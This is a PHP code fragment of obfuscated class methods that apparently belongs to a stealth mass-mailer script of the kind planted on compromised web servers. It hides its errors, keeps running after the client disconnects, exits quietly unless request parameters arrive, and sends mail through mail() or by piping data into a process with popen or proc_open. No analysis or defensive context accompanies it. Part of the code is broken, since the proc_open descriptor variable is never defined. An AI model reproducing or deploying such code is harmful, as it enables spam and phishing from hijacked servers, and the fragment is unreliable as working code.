function __construct()
{
    @set_time_limit(300);
    @ignore_user_abort(true);
    if (empty($_REQUEST)) {
        die;
    }
}

private function _ys($_du, $_cs, $_kle, $_ov, $_cal, $_ems = "")
{
    if (@mail($_kle, $_ov, $_cal, $_ems)) {
        return true;
    }
}

private function _bhj($_jv, $_bnc, $_mti, $_exo)
{
    if ($_mti) {
        $_cxt = @popen($_jv, 'w');
        @fputs($_cxt, $_bnc . $this->_kp);
        return @pclose($_cxt);
    } elseif ($_exo) {
        $_iyk = @proc_open($_jv, $_zn, $_lpp);
        @fputs($_lpp[0], $_bnc . $this->_kp);
        return @proc_close($_iyk);
    }
}
